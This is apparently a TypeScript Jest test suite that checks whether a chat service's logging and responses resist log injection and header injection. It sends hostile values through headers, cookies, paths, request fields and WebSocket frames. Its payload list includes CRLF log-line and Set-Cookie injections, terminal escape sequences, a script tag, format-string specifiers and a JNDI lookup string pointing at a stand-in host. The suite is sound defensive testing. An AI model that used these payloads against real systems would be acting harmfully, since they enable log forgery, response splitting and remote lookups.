import { describe, expect, test } from '@jest/globals';
import { authorizerEvent } from '../functions/events.ts';
import type { Scene } from './scene.ts';
import { exampleFor, placesIn, withAt } from './schema-walk.ts';
import { FRAME_TAKES, HTTP_ROUTES, HTTP_TAKES, keepsSession, requestLine } from './what-routes-take.ts';

/** In each of them, so that it is found wherever it ends up. */
const SIGN = 'forged-by-mallory';
const LINE = `{"level":"info","event":"request","person":"alice","status":200,"by":"${SIGN}"}`;

/** What ends a line, a header, a text or a command, to whoever reads a log: programs, terminals, pages. */
const BREAKS: readonly string[] = [
  `\r\n${LINE}\r\n`,
  `\n${LINE}`,
  `\r${LINE}`,
  `x\r\nSet-Cookie: chat-session=${SIGN}\r\n\r\n<p>`,
  `\u0000${SIGN}`,
  `\u001b[2J\u001b[31m${SIGN}\u001b]0;title\u0007`,
  `\u009b31m${SIGN}`,
  `\u0085${LINE}`,
  `\u2028${LINE}\u2029`,
  `","person":"alice","by":"${SIGN}`,
  `\\u000a${LINE}`,
  `%0d%0a${LINE}`,
  `\u202e${SIGN}`,
  `\ud800${SIGN}`,
  `<script>${SIGN}</script>`,
  `\${jndi:ldap://mallory.example/${SIGN}}`,
  `%s%n%x ${SIGN}`,
];

/** Nothing but letters, numbers and the signs of JSON, up to its end. */
const ONE_LINE = /^[\x20-\x7e]+\n$/;

const MALLORY = 'mallory';

const HEADERS = [
  'user-agent',
  'referer',
  'origin',
  'host',
  'accept-language',
  'content-type',
  'authorization',
  'x-forwarded-for',
  'x-amzn-trace-id',
  'sec-fetch-site',
  'sec-websocket-protocol',
  SIGN,
];

/** What a line has; whatever else it had, somebody else would have put it there. */
const FIELDS = [
  'level',
  'event',
  'requestId',
  'gatewayRequestId',
  'route',
  'connectionId',
  'person',
  'status',
  'refused',
  'audited',
  'ms',
  'stage',
  '_aws',
];

/** That what comes from outside neither forges a line of the log, nor gets into one, nor into a header of an answer. */
export function breaksLines(scene: () => Scene): void {
  /** Does something, and sees to it that it wrote one line, all of it ours. */
  const expectOneLine = async (tried: unknown, act: () => Promise<unknown>) => {
    const { log } = scene().world;
    const before = log.written().length;
    await act();
    const written = log.written().slice(before);
    for (const line of written) {
      expect([tried, line]).toEqual([tried, expect.not.stringContaining(SIGN)]);
      expect([tried, line]).toEqual([tried, expect.stringMatching(ONE_LINE)]);
    }
    const lines = written.map((line) => JSON.parse(line) as Record<string, unknown>);
    // On a machine that is busy a push may take too long, which has a line of its own.
    const [fields = {}, ...more] = lines.filter(({ event }) => event !== 'push failed');
    expect([tried, more]).toEqual([tried, []]);
    const unknown = Object.keys(fields).filter((name) => !FIELDS.includes(name) && !/^[A-Z]\w+$/.test(name));
    expect([tried, unknown]).toEqual([tried, []]);
    expect([MALLORY, undefined]).toContain(fields.person);
  };

  const request = async (route: string, sent: Parameters<Scene['world']['request']>[1]) => {
    const { cookies, headers } = await scene().world.request(route, sent);
    const told = JSON.stringify([cookies, headers]);
    expect(told).not.toContain(SIGN);
  };

  describe('one request is one line, whatever is', () => {
    test.each(HEADERS)('in the header %s', async (name) => {
      for (const text of BREAKS) {
        const headers = { [name]: text };
        const cookies = [scene().mallory.cookie];
        await expectOneLine([name, text], () => request('GET /api/people', { headers, cookies }));
        await expectOneLine([name, text], () =>
          request('POST /api/ticket', {
            body: '{}',
            cookies,
            headers: { 'content-type': 'application/json', ...headers },
          }),
        );
      }
    });

    test('in a cookie', async () => {
      for (const text of BREAKS) {
        const { cookie } = scene().mallory;
        for (const cookies of [[`chat-session=${text}`], [`${text}=x`, cookie], [`${cookie}${text}`]]) {
          await expectOneLine(cookies, () => request('GET /api/people', { cookies }));
        }
      }
    });

    test('in the path, and in what is asked for', async () => {
      const cookies = [scene().mallory.cookie];
      for (const text of BREAKS) {
        await expectOneLine(text, () => request(`GET /api/${text}`, { cookies }));
        await expectOneLine(text, () => request(`${text} /api/people`, { cookies }));
      }
    });

    test.each(HTTP_ROUTES)('in the fields of %s, and in their names', async (route) => {
      const schema = HTTP_TAKES[route];
      const taken = schema ? exampleFor(schema) : {};
      const paths = schema ? placesIn(schema).map(({ path }) => path) : [];
      const cookies = keepsSession(route) ? [scene().mallory.cookie] : [];
      for (const text of BREAKS) {
        const all = [...paths.map((path) => withAt(taken, path, text)), withAt(taken, [text], text)];
        for (const each of all) {
          const sent = route.startsWith('POST')
            ? { cookies, headers: { 'content-type': 'application/json' }, body: JSON.stringify(each) }
            : { cookies, query: each as Record<string, string> };
          await expectOneLine(each, () => request(requestLine(route), sent));
        }
      }
    });
  });

  describe('one frame is one line, whatever is in the fields of', () => {
    test.each(Object.entries(FRAME_TAKES))('%s, and in their names', async (_, schema) => {
      const { mallorysSocket } = scene();
      const example = exampleFor(schema);
      const places = placesIn(schema).map(({ path }) => path);
      for (const text of BREAKS) {
        for (const each of [
          ...places.map((path) => withAt(example, path, text)),
          withAt(example, [text], text),
        ]) {
          await expectOneLine(each, () => mallorysSocket.sendIgnoring(each as object));
        }
      }
    });
  });

  test('a handshake is one line, whatever it offers', async () => {
    for (const text of BREAKS) {
      for (const headers of [
        { 'Sec-WebSocket-Protocol': `chat.v1, ticket.${text}` },
        { Origin: text },
        { [text]: text },
      ]) {
        await expectOneLine(headers, () =>
          scene().world.authorizer(authorizerEvent(headers as Record<string, string>)),
        );
      }
    }
  });
}
